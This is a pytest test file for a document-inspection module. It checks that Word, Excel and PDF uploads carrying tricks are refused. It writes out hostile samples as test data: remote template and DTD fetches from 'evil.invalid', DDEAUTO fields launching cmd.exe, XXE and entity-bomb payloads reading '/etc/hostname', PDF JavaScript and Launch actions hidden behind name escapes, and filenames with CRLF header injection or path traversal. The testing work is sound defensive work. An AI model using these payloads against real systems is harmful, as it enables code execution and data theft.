"""Tricks in files: what an office program would fetch or start is found however it is written."""

from __future__ import annotations

import io
import zipfile
from urllib.parse import unquote

import pikepdf
import pytest

from gongkai.desk import files
from gongkai.desk.actions import Refused
from gongkai.records import actions
from gongkai.text.archive import Archive

TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
HEAD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: str = "<w:t>字</w:t>", **parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def relation(kind: str, mode: str = 'TargetMode="External"', quote: str = '"') -> str:
    return f"{HEAD}<Relationship Id='r1' Type={quote}{kind}{quote} Target='http://evil.invalid/t.dotm' {mode}/></Relationships>"


TEMPLATES = {
    "plain": relation(TYPE + "attachedTemplate").encode(),
    "other quotes": relation(TYPE + "attachedTemplate", "TargetMode='External'", "'").encode(),
    "entities": relation(TYPE + "attached&#84;emplate", 'TargetMode="Extern&#97;l"').encode(),
    "utf-16": relation(TYPE + "attachedTemplate").encode("utf-16"),
    "strict names": relation("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate").encode(),
    "a film from elsewhere": relation(TYPE + "video").encode(),
    "a style sheet from elsewhere": relation(TYPE + "styles").encode(),
    "a picture from elsewhere": relation(TYPE + "image").encode(),
    "prefixed": relation(TYPE + "attachedTemplate").replace("xmlns=", "xmlns:x=").replace("<R", "<x:R").replace("</R", "</x:R").encode(),
}  # fmt: skip


@pytest.mark.parametrize("link", TEMPLATES.values(), ids=TEMPLATES.keys())
@pytest.mark.parametrize("name", ["word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS"])
def test_nothing_is_fetched_from_elsewhere(link, name):
    with pytest.raises(Refused) as refused:
        files.inspect(docx(**{name: link}), "模板.docx")
    assert refused.value.has("external")


def test_a_link_to_click_is_kept():
    files.inspect(docx(**{"word/_rels/document.xml.rels": relation(TYPE + "hyperlink").encode()}), "链接.docx")


FIELDS = {
    "one run": "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>",
    "cut into runs": "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:p>",
    "small letters": "<w:p><w:instrText> ddeauto cmd</w:instrText></w:p>",
    "simple": '<w:p><w:fldSimple w:instr="DDE excel"/></w:p>',
}


@pytest.mark.parametrize("body", FIELDS.values(), ids=FIELDS.keys())
def test_no_field_starts_a_program(body):
    with pytest.raises(Refused) as refused:
        files.inspect(docx(body), "字段.docx")
    assert refused.value.has("external")


def test_words_about_dde_are_words():
    files.inspect(docx("<w:p><w:r><w:t>停用DDE功能的通知</w:t></w:r></w:p>"), "通知.docx")


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
ENTITIES = {
    "a bomb": ("word/_rels/document.xml.rels", (BOMB + relation("&b;")).encode()),
    "a file of ours": ("word/_rels/document.xml.rels", f"{OUTSIDE}{HEAD}&a;</Relationships>".encode()),
    "in the text": ("word/comments.xml", f"{OUTSIDE}<w:t {W}>&a;</w:t>".encode()),
    "in another encoding": ("word/comments.xml", f"{OUTSIDE}<w:t {W}>&a;</w:t>".encode("utf-16")),
    "from an address": ("customXml/item1.xml", b'<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd"><x/>'),
    "behind remarks": ("word/comments.xml", b"<!--" + b"x" * 9000 + f"-->{OUTSIDE}<w:t {W}>&a;</w:t>".encode()),
    "in a drawing": ("word/drawings/vmlDrawing1.vml", f"{OUTSIDE}<xml>&a;<br></xml>".encode()),
}


@pytest.mark.parametrize(("name", "part"), ENTITIES.values(), ids=ENTITIES.keys())
def test_a_file_that_defines_entities_is_refused(name, part):
    with pytest.raises(Refused) as refused:
        files.inspect(docx(**{name: part}), "实体.docx")
    assert refused.value.has("doctype")


def test_entities_are_not_expanded_where_a_file_is_read():
    for head in (BOMB, OUTSIDE):
        data = docx(
            **{
                "word/comments.xml": f"{head}<w:t {W}>前&b;&a;后</w:t>".replace(
                    "&b;", "" if head == OUTSIDE else "&b;"
                ).encode()
            }
        )
        assert (
            "".join(Archive(data).xml("word/comments.xml").itertext()).replace("&a;", "").replace("&b;", "") == "前后"
        )


def test_what_is_no_definition_stays():
    words = "<!-- <!DOCTYPE x> --><w:t xmlns:w='x'>停用DOCTYPE的通知</w:t>"
    drawing = b"<xml xmlns:v='urn:schemas-microsoft-com:vml'><v:shape><br></v:shape></xml>"
    files.inspect(docx(**{"word/comments.xml": words.encode(), "word/vmlDrawing1.vml": drawing}), "通知.docx")


SOURCES = {
    "a page": "<webPr url='http://evil.invalid/'/>",
    "a database": "<dbPr connection='DSN=x' command='select 1'/>",
    "a cube": "<olapPr/>",
}


@pytest.mark.parametrize("source", SOURCES.values(), ids=SOURCES.keys())
def test_a_workbook_asks_nobody_when_it_opens(source):
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    part = f"<connections xmlns='{space}'><connection id='1'>{source}</connection></connections>".encode()
    with pytest.raises(Refused) as refused:
        files.inspect(docx(**{"xl/connections.xml": part, "xl/workbook.xml": b"<workbook/>"}), "表.xlsx")
    assert refused.value.has("external")


@pytest.mark.parametrize(
    "name", [b"/JavaScript", b"/Java#53cript", b"/#4aavaScript", b"/L#61unch", b"/Embedded#46iles"]
)
def test_a_pdf_hides_no_program_behind_escapes(name):
    with pytest.raises(Refused):
        files.inspect(b"%PDF-1.7\n1 0 obj<</OpenAction<</S" + name + b"/JS(app.alert(1))>>>>endobj", "公告.pdf")


def packed(**entries: pikepdf.Object) -> bytes:
    """One page; what its root holds besides lies compressed in an object stream."""
    out, document = io.BytesIO(), pikepdf.new()
    document.add_blank_page()
    for name, value in entries.items():
        document.Root[f"/{name}"] = document.make_indirect(value)
    document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


PACKED = {
    "script": pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"),
    "program": pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    "files": pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array())),
}


@pytest.mark.parametrize("value", PACKED.values(), ids=PACKED.keys())
def test_a_pdf_hides_no_program_in_packed_objects(value):
    data = packed(OpenAction=value)
    assert not any(name in data for name in (b"/JavaScript", b"/Launch", b"/EmbeddedFiles"))
    with pytest.raises(Refused):
        files.inspect(data, "公告.pdf")
    assert files.inspect(packed(Lang=pikepdf.String("zh-CN")), "公告.pdf").extension == "pdf"


HIDDEN = [
    "公告\r\nSet-Cookie: a=b.pdf",
    "公告\u202efdp.exe.pdf",
    "a\0.pdf",
    "../../公告.pdf",
    '公告".pdf',
    "C:\\公告.pdf",
]


@pytest.mark.parametrize("name", HIDDEN)
def test_no_name_writes_a_header_or_a_path(house, client, name, settings, tmp_path):
    settings.HOME = tmp_path
    stored = files.keep("附件一张，列明各项标准。".encode(), "公告.txt")
    record = house.draft()
    one = actions.attach(record, stored, name, revision=record.revision, by=house.drafter)
    record.refresh_from_db()
    house.pass_all(record)
    response = client.get(f"/records/{record.pk}/files/{one.pk}/")
    header = response["Content-Disposition"]
    assert response.status_code == 200 and header.startswith("attachment")
    assert not set("\r\n\0/\\\u202e") & set(unquote(header).replace('\\"', ""))
    assert "Set-Cookie" not in response


@pytest.mark.parametrize("name", HIDDEN[:3])
def test_an_uploaded_file_with_a_hidden_sign_in_its_name_is_sent_back(name):
    with pytest.raises(Refused) as refused:
        files.inspect(b"%PDF-1.7\n", name)
    assert refused.value.has("name-hidden-signs")
